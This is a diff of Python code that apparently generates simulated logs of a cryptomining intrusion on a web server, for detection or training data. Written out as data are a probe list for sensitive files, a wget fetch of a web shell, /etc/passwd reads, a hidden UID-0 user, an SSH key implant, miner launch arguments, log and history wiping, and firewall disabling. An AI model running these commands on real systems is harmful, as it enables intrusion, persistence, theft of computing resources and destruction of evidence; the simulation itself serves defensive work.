@@ -5,7 +5,8 @@ Each method is a step of the story or a few; miner_story.py tells them.
 
 from __future__ import annotations
 
-from sample_data.benign_farm import Farm, Metrics, cpu, load
+from sample_data.benign_farm import Farm
+from sample_data.benign_metrics import Metrics, cpu, load
 from sample_data.benign_traffic import Traffic
 from sample_data.farm import (
     ATTACKER,
@@ -30,13 +31,44 @@ from sample_data.world import HOUR, MILLI, MINUTE, SECOND, Day, Dice
 
 _MINER = "/tmp/.X11-unix/kworkerds"  # noqa: S108
 _WALLET = "44Kx7TESTwalletNOTrealQm3vB9sLr8dXy2Zp5hNf6cJt1gW4eUaRoViPqSbDnEmFkGhYjTzCxAqWs2dRfVtGbHnJm"
-_ARGUMENTS = [_MINER, "-o", f"stratum+tcp://{POOL[0]}:3333", "-u", _WALLET, "-p", "x", "--donate-level=0",
-              "--cpu-max-threads-hint=95", "-B"]  # fmt: skip
+_ARGUMENTS = [
+    _MINER,
+    "-o",
+    f"stratum+tcp://{POOL[0]}:3333",
+    "-u",
+    _WALLET,
+    "-p",
+    "x",
+    "--donate-level=0",
+    "--cpu-max-threads-hint=95",
+    "-B",
+]
 _PATHS = (
-    "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/admin.php", "/backup.sql", "/config.bak", "/server-status",
-    "/uploads/", "/old/", "/test.php", "/info.php", "/shell.php", "/cgi-bin/", "/.svn/entries", "/db.sql", "/console",
-    "/manager/html", "/solr/", "/actuator/env", "/api/.env", "/vendor/phpunit/", "/web.config", "/dump.tar.gz",
-)  # fmt: skip
+    "/wp-login.php",
+    "/.env",
+    "/.git/config",
+    "/phpmyadmin/",
+    "/admin.php",
+    "/backup.sql",
+    "/config.bak",
+    "/server-status",
+    "/uploads/",
+    "/old/",
+    "/test.php",
+    "/info.php",
+    "/shell.php",
+    "/cgi-bin/",
+    "/.svn/entries",
+    "/db.sql",
+    "/console",
+    "/manager/html",
+    "/solr/",
+    "/actuator/env",
+    "/api/.env",
+    "/vendor/phpunit/",
+    "/web.config",
+    "/dump.tar.gz",
+)
 
 
 def miner(seed: int) -> tuple[Story, Written]:
@@ -78,8 +110,16 @@ class Attack:
         with self.step("mnr-01"):
             for index in range(240):
                 path = _PATHS[index % len(_PATHS)] if index < 96 else f"/{self.dice.letters(6).lower()}.php"
-                self.network.web(time, ATTACKER, (SHOP, WEB1.ip), "GET", path, "Mozilla/5.0 (compatible; dirfuzz/2.1)", 404,
-                                 received=162)  # fmt: skip
+                self.network.web(
+                    time,
+                    ATTACKER,
+                    (SHOP, WEB1.ip),
+                    "GET",
+                    path,
+                    "Mozilla/5.0 (compatible; dirfuzz/2.1)",
+                    404,
+                    received=162,
+                )
                 time += self.dice.between(900, 2_100) * MILLI
 
     def guess(self) -> None:
@@ -114,8 +154,15 @@ class Attack:
         shell = "/var/www/html/uploads/.cache.php"
         with self.step("mnr-04"):
             time = day.at("02:29:12.040")
-            lx.execute(time, WEB1, WEBADMIN, ["wget", "-q", f"http://{PAYLOAD[0]}/s.txt", "-O", shell], WEBADMIN, terminal="pts1",
-                       title=True)  # fmt: skip
+            lx.execute(
+                time,
+                WEB1,
+                WEBADMIN,
+                ["wget", "-q", f"http://{PAYLOAD[0]}/s.txt", "-O", shell],
+                WEBADMIN,
+                terminal="pts1",
+                title=True,
+            )
             n.lookup(time + 20 * MILLI, WEB1.ip, *PAYLOAD)
             n.web(
                 time + 60 * MILLI,
@@ -132,10 +179,22 @@ class Attack:
             )
         with self.step("mnr-05"):
             time = day.at("02:33:05")
-            for command, query in (("id", "id"), ("whoami", "whoami"), ("uname -a", "uname%20-a"),
-                                   ("cat /etc/passwd", "cat%20/etc/passwd"), ("ps aux", "ps%20aux")):  # fmt: skip
-                n.web(time, ATTACKER, (SHOP, WEB1.ip), "GET", f"/uploads/.cache.php?c={query}", "curl/8.5.0",
-                      received=self.dice.between(60, 4_000))  # fmt: skip
+            for command, query in (
+                ("id", "id"),
+                ("whoami", "whoami"),
+                ("uname -a", "uname%20-a"),
+                ("cat /etc/passwd", "cat%20/etc/passwd"),
+                ("ps aux", "ps%20aux"),
+            ):
+                n.web(
+                    time,
+                    ATTACKER,
+                    (SHOP, WEB1.ip),
+                    "GET",
+                    f"/uploads/.cache.php?c={query}",
+                    "curl/8.5.0",
+                    received=self.dice.between(60, 4_000),
+                )
                 lx.execute(time + 9 * MILLI, WEB1, WWW, ["sh", "-c", command], None, "/var/www/html/uploads")
                 lx.execute(time + 14 * MILLI, WEB1, WWW, command.split(), None, "/var/www/html/uploads")
                 time += self.dice.between(9, 31) * SECOND
@@ -182,17 +241,39 @@ class Attack:
         lx, day = self.linux, self.day
         with self.step("mnr-08"):
             time = day.at("02:46:31.050")
-            lx.execute(time, WEB1, ROOT, ["useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "sysupd"],
-                       WEBADMIN, "/root", "pts1")  # fmt: skip
-            lx.auth(time + 30 * MILLI, WEB1, "useradd", "new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
-                    lx.pid())  # fmt: skip
+            lx.execute(
+                time,
+                WEB1,
+                ROOT,
+                ["useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "sysupd"],
+                WEBADMIN,
+                "/root",
+                "pts1",
+            )
+            lx.auth(
+                time + 30 * MILLI,
+                WEB1,
+                "useradd",
+                "new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
+                lx.pid(),
+            )
         with self.step("mnr-09"):
             time = day.at("02:48:15.600")
             lx.execute(
                 time, WEB1, ROOT, ["tee", "-a", "/root/.ssh/authorized_keys"], WEBADMIN, "/root", "pts1"
             )
-            lx.touch(time + 4 * MILLI, WEB1, ROOT, "tee", "/root/.ssh/authorized_keys", "ssh_keys", "NORMAL", WEBADMIN, "pts1",
-                     mode="0100600")  # fmt: skip
+            lx.touch(
+                time + 4 * MILLI,
+                WEB1,
+                ROOT,
+                "tee",
+                "/root/.ssh/authorized_keys",
+                "ssh_keys",
+                "NORMAL",
+                WEBADMIN,
+                "pts1",
+                mode="0100600",
+            )
 
     def mine(self) -> None:
         lx, n, day, dice = self.linux, self.network, self.day, self.dice
@@ -208,8 +289,16 @@ class Attack:
                 "pts1",
             )
             n.lookup(time + 15 * MILLI, WEB1.ip, *PAYLOAD)
-            n.web(time + 40 * MILLI, WEB1.ip, PAYLOAD, "GET", "/x/kworkerds", "curl/7.88.1", received=6_210_480,
-                  mime="application/x-executable")  # fmt: skip
+            n.web(
+                time + 40 * MILLI,
+                WEB1.ip,
+                PAYLOAD,
+                "GET",
+                "/x/kworkerds",
+                "curl/7.88.1",
+                received=6_210_480,
+                mime="application/x-executable",
+            )
             lx.execute(time + 9 * SECOND, WEB1, ROOT, ["chmod", "+x", _MINER], WEBADMIN, "/root", "pts1")
         with self.step("mnr-11"):
             lx.execute(day.at("02:54:01.900"), WEB1, ROOT, _ARGUMENTS, WEBADMIN, "/tmp/.X11-unix", "pts1")  # noqa: S108
@@ -283,8 +372,11 @@ class Attack:
     def hide(self) -> None:
         lx, day = self.linux, self.day
         with self.step("mnr-16"):
-            for clock, command in (("03:10:05.1", "shred -u /root/.bash_history"), ("03:10:09.4", "rm -f /home/webadmin/.bash_history"),
-                                   ("03:10:15.8", "truncate -s 0 /var/log/nginx/access.log")):  # fmt: skip
+            for clock, command in (
+                ("03:10:05.1", "shred -u /root/.bash_history"),
+                ("03:10:09.4", "rm -f /home/webadmin/.bash_history"),
+                ("03:10:15.8", "truncate -s 0 /var/log/nginx/access.log"),
+            ):
                 lx.execute(day.at(clock), WEB1, ROOT, command.split(), WEBADMIN, "/root", "pts1")
         with self.step("mnr-17"):
             for clock, command in (("03:12:20.3", "iptables -F"), ("03:12:26.9", "ufw disable")):
